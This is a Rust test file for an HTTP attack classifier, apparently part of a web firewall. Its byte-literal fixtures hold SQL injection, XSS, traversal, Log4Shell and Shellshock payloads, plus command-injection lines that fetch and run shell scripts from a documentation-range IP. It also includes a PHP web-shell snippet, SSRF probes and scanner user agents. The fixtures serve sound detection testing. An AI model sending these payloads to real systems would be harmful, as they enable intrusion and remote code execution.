//! The classifier against byte-literal payloads: known attack strings in their
//! usual obfuscations, and ordinary requests that must stay unclassified.

use super::*;

fn classifier() -> Classifier {
    Classifier::new(None).unwrap()
}

fn verdict(c: &Classifier, parts: Parts<'_>) -> Verdict {
    c.classify(&parts, &mut Scratch::default())
}

fn query(c: &Classifier, q: &[u8]) -> Verdict {
    verdict(
        c,
        Parts {
            method: b"GET",
            path: b"/index.php",
            query: q,
            ..Default::default()
        },
    )
}

fn names(v: &Verdict) -> Vec<&'static str> {
    v.class_names().collect()
}

#[test]
fn default_rules_compile_with_known_classes() {
    let c = classifier();
    assert!(c.ids.len() >= 40);
    assert!(c.ids.iter().any(|id| id == "log4shell-jndi"));
}

#[test]
fn sql_injection_variants() {
    let c = classifier();
    for q in [
        &b"id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"[..],
        b"id=1+union/**/select+1,2,3",
        b"id=1%2527%2520OR%25201%253D1--",
        b"id=1 AND 4521=4521",
        b"id=1) AND 8312=8312 AND (1=1",
        b"id=1' AND 'xYzA'='xYzA",
        b"id=1' OR '1'='1",
        b"id=1;WAITFOR DELAY '0:0:5'--",
        b"id=1 AND SLEEP(5)",
        b"id=(SELECT CHAR(113)||CHAR(107))",
        b"name=x' ORDER BY 3-- -",
        b"id=1,)..'(\").",
        b"id=1 AND extractvalue(1,concat(0x7e,version()))",
        b"q=1;DROP TABLE users",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("sqli"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
}

#[test]
fn xss_variants() {
    let c = classifier();
    for q in [
        &b"q=<script>alert(1)</script>"[..],
        b"q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        b"q=%253Csvg%2520onload%253Dalert%25281%2529%253E",
        b"q=&lt;img src=x onerror=alert(1)&gt;",
        b"q=&#60;iframe src=javascript&colon;alert(1)&#62;",
        b"q=\"><ScRiPt>prompt`1`</sCrIpT>",
        b"u=javascript:alert(document.cookie)",
        b"q=<details open ontoggle=confirm(1)>",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("xss"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
}

#[test]
fn traversal_variants_in_path_and_query() {
    let c = classifier();
    for path in [
        &b"/../../../../etc/passwd"[..],
        b"/%2e%2e/%2e%2e/etc/passwd",
        b"/%252e%252e%252f%252e%252e%252fetc%252fshadow",
        b"/static/..%5c..%5cwindows%5cwin.ini",
        b"/download/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path,
                ..Default::default()
            },
        );
        assert!(
            v.has("traversal"),
            "{} -> {:?}",
            String::from_utf8_lossy(path),
            names(&v)
        );
    }
    let v = query(
        &c,
        b"page=php://filter/convert.base64-encode/resource=index.php",
    );
    assert!(v.has("traversal"), "{:?}", names(&v));
    let v = query(&c, b"file=....//....//etc/passwd");
    assert!(v.has("traversal"), "{:?}", names(&v));
}

#[test]
fn rfi_cmdi_php_ssrf() {
    let c = classifier();
    let v = query(&c, b"page=http://198.51.100.7/shell.txt?");
    assert!(v.has("rfi"), "{:?}", names(&v));
    for q in [
        &b"ip=127.0.0.1;cat /etc/passwd"[..],
        b"host=x|id",
        b"cmd=`whoami`",
        b"a=$(curl http://198.51.100.7/x.sh|sh)",
        b"ip=1%0Auname%20-a",
        b"x=;wget http://198.51.100.7/m -O- | sh",
        b"q=a${IFS}b",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("cmdi"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
    for q in [
        &b"x=<?php system($_GET['c']); ?>"[..],
        b"f=base64_decode('ZWNobyAx')",
        b"-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("php"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
    let v = query(&c, b"url=http://169.254.169.254/latest/meta-data/iam/");
    assert!(v.has("ssrf"), "{:?}", names(&v));
    let v = query(&c, b"callback=http://127.0.0.1:6379/");
    assert!(v.has("ssrf"), "{:?}", names(&v));
}

#[test]
fn log4shell_in_headers_with_obfuscation() {
    let c = classifier();
    for ua in [
        &b"${jndi:ldap://198.51.100.7:1389/a}"[..],
        b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        b"${${lower:jndi}:${lower:rmi}://x/a}",
        b"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
        b"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
        b"%24%7Bjndi:dns://x/a%7D",
    ] {
        let headers: [(&[u8], &[u8]); 2] = [(b"Host", b"a"), (b"X-Api-Version", ua)];
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path: b"/",
                headers: &headers,
                ..Default::default()
            },
        );
        assert!(
            v.has("log4shell"),
            "{} -> {:?}",
            String::from_utf8_lossy(ua),
            names(&v)
        );
    }
}

#[test]
fn shellshock_and_scanners_and_cve_paths() {
    let c = classifier();
    let headers: [(&[u8], &[u8]); 1] = [(b"User-Agent", b"() { :; }; /bin/bash -c 'id'")];
    let v = verdict(
        &c,
        Parts {
            method: b"GET",
            path: b"/cgi-bin/test-cgi",
            headers: &headers,
            user_agent: headers[0].1,
            ..Default::default()
        },
    );
    assert!(v.has("shellshock") && v.has("cve-probe"), "{:?}", names(&v));
    for ua in [
        &b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"[..],
        b"sqlmap/1.7.2#stable (https://sqlmap.org)",
        b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        b"Mozilla/5.0 zgrab/0.x",
        b"curl/7.88.1",
        b"python-requests/2.31.0",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path: b"/",
                user_agent: ua,
                ..Default::default()
            },
        );
        assert!(
            v.has("scanner"),
            "{} -> {:?}",
            String::from_utf8_lossy(ua),
            names(&v)
        );
    }
    for path in [
        &b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh"[..],
        b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        b"/.env",
        b"/.git/config",
        b"/remote/fgt_lang",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path,
                ..Default::default()
            },
        );
        assert!(
            v.has("cve-probe"),
            "{} -> {:?}",
            String::from_utf8_lossy(path),
            names(&v)
        );
    }
}

#[test]
fn ordinary_browser_requests_are_not_classified() {
    let c = classifier();
    let headers: [(&[u8], &[u8]); 5] = [
        (b"Host", b"www.example.com"),
        (
            b"User-Agent",
            b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ),
        (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        (b"Cookie", b"wordpress_test_cookie=WP%20Cookie%20check; id=5; lang=en"),
        (b"Referer", b"https://www.example.com/blog/2024/01/hello-world/?utm_source=x&utm_medium=y"),
    ];
    for (path, q, body) in [
        (&b"/"[..], &b""[..], &b""[..]),
        (
            b"/wp-login.php",
            b"redirect_to=%2Fwp-admin%2F&reauth=1",
            b"log=alice&pwd=correct+horse&wp-submit=Log+In&testcookie=1",
        ),
        (
            b"/blog/2024/01/hello-world/",
            b"s=union+station+opening+hours",
            b"",
        ),
        (b"/search", b"q=rock+%26+roll&page=2&sort=date", b""),
        (
            b"/api/items",
            b"",
            b"{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"],\"n\":1}",
        ),
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"POST",
                path,
                query: q,
                body,
                headers: &headers,
                user_agent: headers[1].1,
            },
        );
        assert_eq!(
            v.classes,
            0,
            "{} ?{} -> {:?} {:?}",
            String::from_utf8_lossy(path),
            String::from_utf8_lossy(q),
            names(&v),
            v.rules.iter().map(|r| c.rule_id(*r)).collect::<Vec<_>>()
        );
    }
}

#[test]
fn user_rules_extend_and_errors_name_the_rule() {
    let user = r#"
[[rule]]
id = "local-secret-path"
class = "cve-probe"
in = ["path"]
pattern = '^/internal-backup/'
"#;
    let c = Classifier::new(Some(("my.toml", user))).unwrap();
    let v = verdict(
        &c,
        Parts {
            method: b"GET",
            path: b"/internal-backup/db.tar",
            ..Default::default()
        },
    );
    assert!(v.rules.iter().any(|r| c.rule_id(*r) == "local-secret-path"));
    let bad_class = user.replace("cve-probe", "nope");
    let e = Classifier::new(Some(("my.toml", &bad_class))).unwrap_err();
    assert!(
        e.contains("local-secret-path") && e.contains("unknown class"),
        "{e}"
    );
    let bad_re = user.replace("^/internal-backup/", "(unclosed");
    let e = Classifier::new(Some(("my.toml", &bad_re))).unwrap_err();
    assert!(e.contains("local-secret-path"), "{e}");
    let e = Classifier::new(Some(("my.toml", "[[rule]]\nid=1"))).unwrap_err();
    assert!(e.contains("my.toml"), "{e}");
}

#[test]
fn hostile_inputs_terminate() {
    let c = classifier();
    let big = vec![b'%'; 64 * 1024];
    let _ = query(&c, &big);
    let nested = b"${".repeat(30_000);
    let _ = query(&c, &nested);
    let mixed: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
    let _ = query(&c, &mixed);
}
